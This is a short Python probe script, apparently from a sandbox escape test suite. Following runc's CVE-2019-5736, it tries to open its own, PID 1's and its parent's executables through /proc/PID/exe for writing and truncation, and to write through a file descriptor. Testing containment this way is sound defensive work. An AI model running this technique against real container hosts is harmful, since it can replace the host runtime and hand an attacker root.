"""Overwrites the program that runs it, and the one that started it, through `/proc/PID/exe`.

From: runc's CVE-2019-5736: the host's own runtime was replaced, and run by root the next time.
"""

import os

from evidence import attempt, done, write

for pid in ("self", "1", str(os.getppid())):
    exe = f"/proc/{pid}/exe"
    attempt(f"open {exe}", os.open, exe, os.O_RDONLY)
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        attempt(f"{exe} {flags:x}", os.open, exe, flags)
    fd = os.open("/usr/bin/bwrap" if pid == "1" and os.path.exists("/usr/bin/bwrap") else "/usr/bin/env", os.O_PATH)
    attempt(f"by descriptor {exe}", write, f"/proc/self/fd/{fd}")
done()
